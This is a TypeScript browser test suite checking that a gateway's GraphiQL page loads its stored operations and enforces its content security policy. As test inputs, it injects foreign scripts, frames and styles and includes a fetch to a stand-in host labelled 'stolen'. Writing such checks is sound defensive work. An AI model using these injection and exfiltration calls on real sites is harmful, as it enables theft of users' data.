import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { listeningGateway } from '../client/listening-gateway.ts';
import { type OpenBrowser, openBrowser } from './browser.ts';

const OPERATIONS = new URL('../../schema/operations/', import.meta.url);
const PICTURE = fileURLToPath(new URL('../fixtures/graphiql.png', import.meta.url));

let folder: string;
let gateway: Awaited<ReturnType<typeof listeningGateway>>;
let browser: OpenBrowser;

// In the words of the browser, whose types this project does not know.
const WATCH =
  'broken = []; addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective))';
const insert = (tag: string, properties: object) =>
  browser.page.evaluate(
    `void document.head.append(Object.assign(document.createElement("${tag}"), ${JSON.stringify(properties)}))`,
  );

/** The rules of the page that something on it has broken. */
const brokenRules = () => browser.page.evaluate('broken') as Promise<string[]>;

beforeAll(async () => {
  // The browser is unpacked into TMPDIR: one of our own, or two runs on one machine would meet there.
  folder = mkdtempSync(join(tmpdir(), 'checkpoint-gateway-browser-'));
  vi.stubEnv('TMPDIR', folder);
  gateway = await listeningGateway();
  browser = await openBrowser(folder, gateway.url);
  await browser.page.addInitScript(WATCH);
  await browser.page.goto(`${gateway.url}/graphql`);
});

afterAll(async () => {
  await browser?.close();
  await gateway?.close();
  vi.unstubAllEnvs();
  rmSync(folder, { recursive: true });
});

describe('GraphiQL in a browser', () => {
  it('opens with a tab for each stored operation, the vault overview first', async () => {
    await browser.page.locator('.graphiql-execute-button').waitFor();
    const tabs = await browser.page.getByRole('tab').allInnerTexts();
    const operations = readdirSync(OPERATIONS).map((file) => file.replace('.graphql', ''));
    const asFiles = tabs.map((tab) => tab.replaceAll(/\B[A-Z]/g, '-$&').toLowerCase());
    expect(asFiles[0]).toBe('vault-overview');
    expect(asFiles.sort()).toEqual(operations.sort());
  });

  it('shows the vaults of the sandbox at the press of a button, and asks nothing of any other origin', async () => {
    const { page, foreignRequests } = browser;
    await page.locator('.graphiql-execute-button').click();
    const result = page.locator('.result-window');
    await result.getByText('"vault-orders-prod"').waitFor();
    if (process.env.SCREENSHOT === '1') await page.screenshot({ path: PICTURE, animations: 'disabled' });
    expect(await result.textContent()).toContain('orders-db-01');
    expect(foreignRequests).toEqual([]);
  });

  it('works in workers of its own, and within the rules of its page', async () => {
    expect(browser.page.workers().length).toBeGreaterThan(0);
    expect(await brokenRules()).toEqual([]);
  });

  it('shows itself again under the address into which it wrote its query', async () => {
    const { page } = browser;
    await page.goto(`${gateway.url}/graphql?query=${encodeURIComponent('{ upstreams { name } }')}`);
    await page.locator('.graphiql-execute-button').waitFor();
    expect(await brokenRules()).toEqual([]);
  });

  it.each([
    ['a script from outside', 'script', { src: 'https://cdn.example/a.js' }, 'script-src-elem'],
    ['a script written into it', 'script', { textContent: 'document.title = "taken"' }, 'script-src-elem'],
    ['a picture from outside', 'img', { src: 'https://cdn.example/a.png' }, 'img-src'],
    ['a frame from outside', 'iframe', { src: 'https://cdn.example/' }, 'frame-src'],
    ['a style from outside', 'link', { rel: 'stylesheet', href: 'https://cdn.example/a.css' }, 'style-src-elem'],
  ])('does not let in %s', async (_name, tag, properties, rule) => {
    const { page, foreignRequests } = browser;
    await insert(tag, properties);
    await expect.poll(async () => (await brokenRules()).at(-1)).toBe(rule);
    expect([await page.title(), foreignRequests]).toEqual(['checkpoint-gateway', []]);
  });

  it('sends nothing to any other origin', async () => {
    const { page, foreignRequests } = browser;
    const sent = page.evaluate(
      'fetch("https://cdn.example/?stolen", { mode: "no-cors" }).then(() => "sent", () => "kept")',
    );
    expect([await sent, foreignRequests]).toEqual(['kept', []]);
  });
});

describe('the browser of these tests', () => {
  it.each(['http://192.0.2.1/a', 'http://localhost:65000/b', 'https://cdn.example/c'])(
    'does not get to %s',
    async (url) => {
      const { page, foreignRequests, close } = await openBrowser(folder, gateway.url);
      await page.goto(url).catch(() => undefined);
      await close();
      expect(foreignRequests).toHaveLength(1);
    },
  );
});
